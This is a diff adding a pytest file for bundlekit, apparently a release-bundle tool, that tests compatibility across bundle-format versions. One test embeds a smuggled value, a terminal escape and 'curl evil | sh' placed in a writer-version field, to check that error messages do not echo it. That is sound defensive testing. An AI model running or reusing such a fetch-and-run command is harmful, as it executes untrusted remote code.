@@ -1,0 +1,126 @@
+"""Zones on different bundlekit versions keep working together (issue 11, decision 562).
+
+A bundle names its writer (format 1.4 ``writer``); a reader accepts every older minor version
+and refuses another major version naming the bundlekit release to install. What every
+bundlekit release wrote is kept in fixtures/written-by/ forever, byte for byte, and imported
+here by the bundlekit under test through its real CLI.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import shutil
+import struct
+from pathlib import Path
+
+import pytest
+
+from bundlekit import __version__
+from bundlekit.format import codec
+from bundlekit.format.container import FORMAT_MAJOR, HEADER_SIZE, MAGIC, BundleFile
+from bundlekit.importer.verify import read_unverified
+from tests.conftest import FIXTURES, RELEASE, raises_code, run_cli
+
+WRITTEN_BY = FIXTURES / "written-by"
+#: Every release whose bundles are kept. A release adds itself (fixtures/make_written_by.py); none leaves.
+KEPT = ["0.1.0"]
+
+
+def _sums() -> dict[str, str]:
+    out = {}
+    for line in (WRITTEN_BY / "SHA256SUMS").read_text("utf-8").splitlines():
+        digest, name = line.split("  ", 1)
+        out[name] = digest
+    return out
+
+
+def test_fixtures_of_older_writers_are_kept_byte_for_byte() -> None:
+    sums = _sums()
+    for version in KEPT:
+        mine = {n: d for n, d in sums.items() if n.startswith(f"{version}/")}
+        assert f"{version}/release.bundle" in mine, f"the bundles bundlekit {version} wrote are gone"
+        for name, digest in mine.items():
+            data = (WRITTEN_BY / name).read_bytes()
+            assert hashlib.sha256(data).hexdigest() == digest, f"{name} was changed; fixtures are kept as written"
+    versions = {n.split("/", 1)[0] for n in sums}
+    assert versions == set(KEPT), "list every kept release in KEPT"
+
+
+@pytest.mark.parametrize("version", KEPT)
+def test_a_zone_on_this_version_imports_what_an_older_release_wrote(version: str, tmp_path: Path) -> None:
+    kept = WRITTEN_BY / version
+    home = tmp_path / "prod"
+    shutil.copytree(kept / "prod-home", home)  # its state as that release left it
+    bundle = kept / "release.bundle"
+    bf, manifest = read_unverified(bundle)
+    bf.close()
+    assert manifest.writer in (None, f"bundlekit {version}")
+    verified = run_cli("verify", bundle, home=home)
+    assert verified.returncode == 0, verified.stderr
+    imported = run_cli("import", bundle, home=home)
+    assert imported.returncode == 0, imported.stderr
+    releases = run_cli("releases", "list", home=home, env={"NO_COLOR": "1"})
+    assert releases.returncode == 0, releases.stderr
+    assert "Acme Web" in releases.stdout and "1.4.0" in releases.stdout and "from dev seq 1" in releases.stdout
+
+
+def test_a_bundle_names_the_bundlekit_that_wrote_it(tmp_path: Path) -> None:
+    for zone in ("dev", "prod"):
+        assert run_cli("init", "--zone", zone, home=tmp_path / zone).returncode == 0
+        assert run_cli("identity", "-o", tmp_path / f"{zone}.card", home=tmp_path / zone).returncode == 0
+    assert run_cli("trust", "add", tmp_path / "prod.card", home=tmp_path / "dev").returncode == 0
+    out = tmp_path / "acme.bundle"
+    done = run_cli("export", RELEASE, "--to", "prod", "-o", out, home=tmp_path / "dev")
+    assert done.returncode == 0, done.stderr
+    with BundleFile(out) as bf:
+        raw = codec.decode(bf.manifest_bytes)
+    assert raw["writer"] == {"name": "bundlekit", "version": __version__}
+    shown = run_cli("inspect", out)
+    assert f"written by bundlekit {__version__}" in shown.stdout
+
+
+def _newer_major(path: Path, manifest: dict[str, object], major: int = FORMAT_MAJOR + 1) -> Path:
+    """A bundle of another major version: header, a manifest, one (unchecked) signature record."""
+    body = codec.encode(manifest)
+    header = struct.pack(">8sHHB3sQQ", MAGIC, major, 0, 1, b"\0\0\0", 0, len(body))
+    path.write_bytes(header + body + b"\0" * 96)
+    assert len(header) == HEADER_SIZE
+    return path
+
+
+def test_a_newer_major_version_is_refused_naming_the_release_to_install(tmp_path: Path) -> None:
+    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2",
+                                                     "writer": {"name": "bundlekit", "version": "3.1.0"}})
+    with raises_code("unsupported_version") as info:
+        BundleFile(bundle)
+    assert "install bundlekit 3.1.0 or later" in info.value.message
+    assert f"version 2.0; this bundlekit ({__version__}) reads format 1.x" in info.value.message
+    # through the CLI too, before any key or home is needed
+    done = run_cli("inspect", bundle)
+    assert done.returncode != 0 and "install bundlekit 3.1.0 or later" in done.stderr
+
+
+def test_a_newer_major_without_a_writer_names_the_format_to_look_for(tmp_path: Path) -> None:
+    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2"})
+    with raises_code("unsupported_version") as info:
+        BundleFile(bundle)
+    assert f"newer than {__version__} that reads format 2" in info.value.message
+
+
+def test_a_writer_version_that_is_not_a_version_is_not_repeated(tmp_path: Path) -> None:
+    hostile = "3.1.0\x1b[2J; curl evil | sh"
+    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2",
+                                                     "writer": {"name": "bundlekit", "version": hostile}})
+    with raises_code("unsupported_version") as info:
+        BundleFile(bundle)
+    assert "evil" not in info.value.message and "\x1b" not in info.value.message
+    assert "reads format 2" in info.value.message
+
+
+def test_an_older_minor_version_is_read(tmp_path: Path) -> None:
+    # the 1.0 vector (minor 0) opens and parses with this reader (the vectors test checks it fully)
+    old = FIXTURES / "vectors" / "valid-release.bundle"
+    bf, manifest = read_unverified(old)
+    with bf:
+        assert (bf.header.major, bf.header.minor) == (1, 0)
+    assert manifest.writer is None  # 1.0 writers did not name themselves
